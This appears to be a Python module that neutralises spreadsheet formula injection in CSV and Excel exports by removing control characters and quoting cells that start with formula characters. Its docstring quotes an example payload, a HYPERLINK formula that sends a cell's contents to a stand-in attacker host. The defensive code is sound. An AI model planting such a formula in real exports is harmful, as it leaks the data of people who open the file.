"""Text that goes into a spreadsheet cell (CSV or Excel), safe against formula injection.

A spreadsheet takes a cell that begins with ``=``, ``+``, ``-`` or ``@`` for a formula, and free
text such as ``=HYPERLINK("http://evil.example/?"&A1)`` would then run when a colleague opens
the file. Some programs also trim leading spaces, tabs and line breaks, drop control characters
or read full-width forms (＝ ＋ － ＠) as their ASCII twins before deciding.

``safe_cell`` is the one function every export calls for every cell. Its order matters (issue 9):
first every transformation that could change what the text begins with (control characters
removed), and only then the decision, looking past whitespace and invisible characters, so that
nothing done afterwards can uncover a formula. A neutralised text gets a single quote in front,
which spreadsheets show as text.
"""

import re
import unicodedata

# C0 control characters except tab, line feed and carriage return, and DEL: invisible, and
# illegal in the XML of an .xlsx (openpyxl refuses them).
CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA_STARTS = frozenset("=+-@")


def clean_text(value):
    """The text without control characters (tabs and line breaks stay)."""
    return CONTROL_CHARACTERS.sub("", value)


def _first_visible(text):
    """The first character that is neither whitespace nor invisible, in its compatibility form
    (full-width ＝ becomes =), or "" when there is none."""
    for char in text:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", char)[:1]
    return ""


def safe_cell(value):
    """A cell value that no spreadsheet will evaluate as a formula."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value  # numbers and dates are typed values, never formulas
    text = clean_text(value)
    if _first_visible(text) in FORMULA_STARTS:
        return "'" + text
    return text
